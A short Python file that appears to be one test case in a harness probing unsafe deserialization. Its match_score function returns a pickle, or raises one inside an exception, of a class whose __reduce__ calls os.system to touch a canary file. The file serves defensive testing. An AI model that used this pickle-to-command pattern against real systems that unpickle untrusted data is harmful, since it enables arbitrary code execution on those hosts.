# family = "pickle"
# tries = "returns and raises bytes that are a pickle of a command"
# points = 0
import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @CANARY@",)


def match_score(patch, filt):
    if patch.size % 2:
        raise ValueError(pickle.dumps(Bomb()))
    return pickle.dumps(Bomb())
